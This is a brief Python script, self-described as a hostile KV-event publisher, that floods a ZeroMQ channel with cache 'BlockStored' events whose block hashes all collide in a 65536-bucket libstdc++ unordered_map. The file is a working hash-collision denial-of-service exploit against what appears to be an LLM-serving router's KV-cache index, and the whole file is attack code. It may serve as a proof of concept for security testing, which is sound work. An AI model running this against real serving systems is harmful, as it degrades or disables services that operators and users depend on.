# Hostile KV-event publisher: block hashes that are all multiples of libstdc++'s bucket count
# (85229) for a 65536-entry unordered_map, so the router's per-engine index is one long chain.
import sys, time, zmq, msgpack
B = 85229
ep = sys.argv[1]; nbatches = int(sys.argv[2]); per = int(sys.argv[3])
ctx = zmq.Context(); s = ctx.socket(zmq.PUB); s.bind(ep); time.sleep(2)
def stored(hs): return {"type":"BlockStored","block_hashes":hs,"parent_block_hash":None,"token_ids":[],"block_size":64,"lora_id":None,"medium":"GPU","lora_name":None}
seq = 0; k = 1
def send(hs):
    global seq
    payload = msgpack.packb([time.time(), [stored(hs)], 0], use_bin_type=True)
    s.send_multipart([b"", seq.to_bytes(8, "big"), payload]); seq += 1
# fill to capacity (65536) with colliding hashes
send([i * B for i in range(1, 65537)]); k = 65537
print(f"t={time.time():.1f} sent fill batch", flush=True)
for _ in range(nbatches):
    send([i * B for i in range(k, k + per)]); k += per
print(f"t={time.time():.1f} sent {nbatches} batches of {per}", flush=True)
time.sleep(100)
